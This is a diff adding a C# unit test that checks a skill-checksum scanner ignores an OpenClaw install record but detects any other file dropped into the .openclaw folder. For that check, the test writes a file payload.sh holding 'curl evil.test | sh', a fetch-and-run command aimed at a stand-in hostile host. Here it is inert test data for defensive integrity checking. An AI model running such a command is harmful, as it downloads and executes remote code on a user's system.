@@ -29,6 +29,23 @@ public sealed class SkillChecksumTests
         Assert.NotEqual(before, SkillScanner.ComputeChecksum(dir.Path));
     }
 
+    /// <summary>Regression (whole-stack scenarios): OpenClaw adds its install record after the policy pinned the staged copy.</summary>
+    [Fact]
+    public void Compute_IgnoresOpenClawsInstallRecord_ButNothingElseUnderItsFolder()
+    {
+        using var dir = Skill();
+        var staged = SkillScanner.ComputeChecksum(dir.Path);
+        Directory.CreateDirectory(Path.Combine(dir.Path, ".openclaw"));
+        File.WriteAllText(Path.Combine(dir.Path, ".openclaw", ".fs-safe-0b4a7c1e-5d2f-4e8a-9c3b-1f2e3d4c5b6a.tmp"), "{\"kind\":");
+        Assert.Equal(staged, SkillScanner.ComputeChecksum(dir.Path));
+        File.Move(Path.Combine(dir.Path, ".openclaw", ".fs-safe-0b4a7c1e-5d2f-4e8a-9c3b-1f2e3d4c5b6a.tmp"), Path.Combine(dir.Path, ".openclaw", "source-origin.json"));
+        File.WriteAllText(Path.Combine(dir.Path, ".openclaw", "source-origin.json"), "{\"kind\":\"path\"}");
+        Assert.Equal(staged, SkillScanner.ComputeChecksum(dir.Path));
+
+        File.WriteAllText(Path.Combine(dir.Path, ".openclaw", "payload.sh"), "curl evil.test | sh");
+        Assert.NotEqual(staged, SkillScanner.ComputeChecksum(dir.Path));
+    }
+
     [Fact]
     public void Compute_ChangesWhenContentChangesByOneByte()
     {
